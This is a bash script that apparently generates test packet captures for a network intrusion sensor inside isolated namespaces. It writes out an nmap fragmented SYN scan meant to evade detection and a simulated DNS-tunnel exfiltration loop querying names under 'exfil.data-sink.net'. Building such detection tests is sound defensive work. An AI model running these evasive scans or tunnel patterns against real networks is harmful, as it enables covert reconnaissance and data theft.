#!/usr/bin/env bash
# Hostile-input captures (issue 19): evasions a sensor must catch or count. Real tools where a
# tool can make the traffic, in namespaces prefixed sh (netns.sh); scapy (hostile_wrap.py, run
# with /usr/bin/python3 and python3-scapy) where it must be crafted from real frames.
#   hostile_nmap_frag_scan.pcap  nmap -sS -f: every probe in 8-byte fragments (RFC 1858 tiny)
#   hostile_dns_repeats.pcap     dig: 12 tunnel names, each queried 5 times
#   hostile_vlan6_dig_loop.pcap, hostile_vlan12_dig_loop.pcap, hostile_frag_overlap_syn.pcap,
#   hostile_frag_overlap_dns.pcap: hostile_wrap.py, from dns_dig_loop.pcap and
#   scan_nmap_p22_sweep.pcap
# Needs (Debian): iproute2 tcpdump nmap dnsutils dnsmasq-base python3-scapy. Run as root.
set -euo pipefail
cd "$(dirname "$0")"
. ./netns.sh
netns_up sh
WORK=$(mktemp -d)

# 1. nmap's fragmented SYN scan: 8-byte fragments, the first shorter than a TCP header.
home_addr 10.99.0.61
capture_start ../hostile_nmap_frag_scan.pcap 0 host 10.99.0.61
ip netns exec "$NS_HOME" nmap -n -e "$VH" -S 10.99.0.61 -sS -f -Pn -p 1-200 203.0.113.61 >/dev/null
capture_stop

# 2. A DNS tunnel padded with repeats: 12 distinct 60-hex-char names, each asked 5 times in a
#    row (repeats counted as queries would keep the suspicious share at 12/60 = 0.2).
home_addr 10.99.0.62
ip netns exec "$NS_NET" dnsmasq -k -C /dev/null --no-resolv --no-hosts --no-poll --bind-interfaces \
  --listen-address=198.51.100.53 --user=root --group=root --pid-file="$WORK/dnsmasq.pid" \
  --cache-size=0 --address=/#/192.0.2.80 --local=/#/ \
  --address=/data-sink.net/192.0.2.53 --local=/data-sink.net/ &
sleep 1
capture_start ../hostile_dns_repeats.pcap 0 host 10.99.0.62
mapfile -t names < <(head -c 360 /dev/urandom | xxd -p | fold -w 60 | head -12)
n=0
for c in "${names[@]}"; do
  n=$((n + 1))
  for rep in 1 2 3 4 5; do
    ip netns exec "$NS_HOME" dig -b 10.99.0.62 +short +tries=1 +time=1 @198.51.100.53 \
      "$c.$n.exfil.data-sink.net" TXT >/dev/null || true
  done
done
capture_stop

# 3. Crafted from real frames.
[ -n "${ONLY_REPEATS:-}" ] || /usr/bin/python3 hostile_wrap.py
rm -rf "$WORK"
